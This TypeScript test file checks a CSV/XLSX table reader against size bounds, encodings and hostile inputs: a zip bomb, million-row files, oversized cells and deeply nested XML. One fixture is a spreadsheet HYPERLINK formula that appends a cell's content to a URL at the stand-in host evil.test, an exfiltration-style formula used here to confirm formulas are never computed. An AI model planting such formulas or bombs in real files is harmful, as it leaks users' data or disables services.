import { describe, expect, it } from 'vitest';
import { TABLE_BOUNDS } from './read-table-file.ts';
import { readTable } from './table-file-reader.ts';
import { loadExcel } from './table-files.ts';
import { bombXlsx, hugeCellXlsx, millionRowsCsv, millionRowsXlsx, workbook } from '../test/hostile-tables.ts';

const csv = (text: string) => new Uint8Array(Buffer.from(text));

describe('table file reader (bounds of docs/decisions/0034)', () => {
  it('refuses a value past the header row’s last column, naming its line; empty trailing cells are fine', async () => {
    // « 1,50 » in a comma-separated file: read as 1 and a stray « 50 » before.
    expect(await readTable(csv('Désignation,Prix HT\n"Beurre; doux",1,50\n'), false, TABLE_BOUNDS)).toEqual({
      problem: 'cellOutsideColumns',
      line: 2,
    });
    expect(await readTable(csv('Nom;Prix;\nBeurre;9,80;\nSel;1;;\n'), false, TABLE_BOUNDS)).toEqual({
      headers: ['Nom', 'Prix', ''],
      rows: [
        { Nom: 'Beurre', Prix: '9,80' },
        { Nom: 'Sel', Prix: '1' },
      ],
    });
  });

  it('reads a small CSV and a small XLSX (shared and inline strings, numbers, entities, gaps) as rows by header', async () => {
    expect(await readTable(csv('\uFEFFNom;Prix\nBeurre;9,80\n;;\nSel & poivre;1\n'), false, TABLE_BOUNDS)).toEqual({
      headers: ['Nom', 'Prix'],
      rows: [
        { Nom: 'Beurre', Prix: '9,80' },
        { Nom: 'Sel & poivre', Prix: '1' },
      ],
    });
    const file = await workbook(
      () => [
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="inlineStr"><is><t>Prix</t></is></c></row>',
        '<row r="2"><c r="A2" t="s"><v>1</v></c><c r="C2"><v>9.8</v></c></row>',
        '<row r="3"><c r="A3" t="str"><v>Sel &amp; poivre</v></c><c r="B3" t="b"><v>1</v></c></row>',
      ],
      () => ['<si><t>Nom</t></si><si><r><t>Beu</t></r><r><t xml:space="preserve">rre</t></r><rPh><t>x</t></rPh></si>'],
    );
    expect(await readTable(file, true, TABLE_BOUNDS)).toEqual({
      headers: ['Nom', '', 'Prix'],
      rows: [
        { Nom: 'Beurre', Prix: '9.8' },
        { Nom: 'Sel & poivre', Prix: '' },
      ],
    });
  });

  it('stops at the first bound: rows, cell length, columns, unpacked size (a lying zip), whatever the declared sizes', async () => {
    expect(await readTable(await millionRowsXlsx(), true, TABLE_BOUNDS)).toEqual({ problem: 'tooManyRows' });
    expect(await readTable(millionRowsCsv(), false, TABLE_BOUNDS)).toEqual({ problem: 'tooManyRows' });
    // The attack's 100 MB cell passes the 64 MB unpacked first; a 20 MB one meets the cell's bound.
    expect(await readTable(await hugeCellXlsx(100), true, TABLE_BOUNDS)).toEqual({ problem: 'tooLarge' });
    expect(await readTable(await hugeCellXlsx(20), true, TABLE_BOUNDS)).toEqual({ problem: 'cellTooLong' });
    expect(await readTable(await bombXlsx(), true, TABLE_BOUNDS)).toEqual({ problem: 'tooLarge' });
    expect(await readTable(csv(`Nom\n${'a'.repeat(4_001)}\n`), false, TABLE_BOUNDS)).toEqual({
      problem: 'cellTooLong',
      line: 2,
    });
    expect(await readTable(csv(`${'x;'.repeat(250)}Nom\n`), false, TABLE_BOUNDS)).toEqual({
      problem: 'tooManyColumns',
    });
    // 10,000 rows are taken, the 10,001st is one too many.
    const rows = (n: number) => csv(`Nom\n${'Sel\n'.repeat(n)}`);
    expect(await readTable(rows(10_000), false, TABLE_BOUNDS)).toMatchObject({ headers: ['Nom'] });
    expect(await readTable(rows(10_001), false, TABLE_BOUNDS)).toEqual({ problem: 'tooManyRows' });
    // A total of text: 10,000 rows of 40 cells of 40 characters pass every other bound.
    const wide = `${Array.from({ length: 40 }, (_, i) => `c${i}`).join(';')}\n${`${'b'.repeat(40)};`.repeat(40)}\n`;
    expect(
      await readTable(csv(wide.split('\n')[0] + '\n' + `${wide.split('\n')[1]}\n`.repeat(10_000)), false, TABLE_BOUNDS),
    ).toEqual({
      problem: 'tooLarge',
    });
  }, 60_000);

  it('refuses what is not a table', async () => {
    expect(await readTable(new Uint8Array([0x50, 0x4b, 1, 2, 3]), true, TABLE_BOUNDS)).toEqual({
      problem: 'unreadable',
    });
    expect(await readTable(csv(''), false, TABLE_BOUNDS)).toEqual({ problem: 'unreadable' });
    // UTF-16 without its mark, or a binary file: a NUL is no text.
    const utf16 = new Uint8Array(Buffer.from('Nom;Prix\nSel;1\n', 'utf16le'));
    expect(await readTable(utf16, false, TABLE_BOUNDS)).toEqual({ problem: 'unreadable' });
    // In a sheet, &#0; and a raw NUL are dropped from the cell's text.
    const nul = await workbook(
      () => [
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c></row>',
        '<row r="2"><c r="A2" t="inlineStr"><is><t>S&#0;el\u0000</t></is></c></row>',
      ],
      null,
    );
    expect(await readTable(nul, true, TABLE_BOUNDS)).toEqual({ headers: ['Nom'], rows: [{ Nom: 'Sel' }] });
  });

  it('reads a workbook written by ExcelJS (the library that read these files before) as ExcelJS gave it: dates as AAAA-MM-JJ, a formula as its last result, rich text as its text', async () => {
    const ExcelJS = await loadExcel();
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Ventes');
    sheet.addRow(['Date', 'Article', 'Quantité', 'Lien']);
    sheet.addRow([
      new Date(Date.UTC(2026, 2, 2)),
      { richText: [{ text: 'Crème ' }, { text: 'brûlée', font: { bold: true } }] },
      3,
      { formula: 'HYPERLINK("http://evil.test/?x="&A1,"clic")', result: 'clic' },
    ]);
    sheet.addRow([new Date(Date.UTC(1999, 11, 31)), 'Sel & poivre', 2.5, { formula: '1+1' }]);
    sheet.getCell('A3').numFmt = 'dd/mm/yyyy';
    const bytes = new Uint8Array(await book.xlsx.writeBuffer());
    expect(await readTable(bytes, true, TABLE_BOUNDS)).toEqual({
      headers: ['Date', 'Article', 'Quantité', 'Lien'],
      rows: [
        { Date: '2026-03-02', Article: 'Crème brûlée', Quantité: '3', Lien: 'clic' },
        // A formula without a stored result is read as empty: nothing is ever computed.
        { Date: '1999-12-31', Article: 'Sel & poivre', Quantité: '2.5', Lien: '' },
      ],
    });
  });

  it('reads a CSV in UTF-8 (with or without BOM), UTF-16 with its BOM, and Windows-1252 (a French Excel’s « CSV »)', async () => {
    const expected = { headers: ['Nom', 'Prix'], rows: [{ Nom: 'Crème brûlée œuf', Prix: '9,80 €' }] };
    const text = 'Nom;Prix\nCrème brûlée œuf;9,80 €\n';
    const utf16 = (le: boolean) => {
      const body = Buffer.from(text, 'utf16le');
      if (!le) body.swap16();
      return new Uint8Array([...(le ? [0xff, 0xfe] : [0xfe, 0xff]), ...body]);
    };
    // Windows-1252 by hand: é = E9, è = E8, û = FB, œ = 9C, € = 80 (WHATWG index-windows-1252).
    const cp1252 = new Uint8Array(
      [...text].map((ch) => ({ é: 0xe9, è: 0xe8, û: 0xfb, œ: 0x9c, '€': 0x80 })[ch] ?? ch.charCodeAt(0)),
    );
    for (const bytes of [csv(text), csv(`\uFEFF${text}`), utf16(true), utf16(false), cp1252])
      expect(await readTable(bytes, false, TABLE_BOUNDS)).toEqual(expected);
  });

  it('refuses deeply nested or unclosed XML in a sheet within its bounds, never reading it whole', async () => {
    const nested = await workbook(function* () {
      yield '<row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c></row><row r="2">';
      yield '<x>'.repeat(200_000);
      yield '</row>';
    }, null);
    expect(await readTable(nested, true, TABLE_BOUNDS)).toEqual({ problem: 'cellTooLong' });
    const unclosed = await workbook(function* () {
      yield '<row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c></row><row r="2"><c r="A2"><v>';
      yield 'a'.repeat(1_000_000);
    }, null);
    expect(await readTable(unclosed, true, TABLE_BOUNDS)).toEqual({ problem: 'cellTooLong' });
  });
});
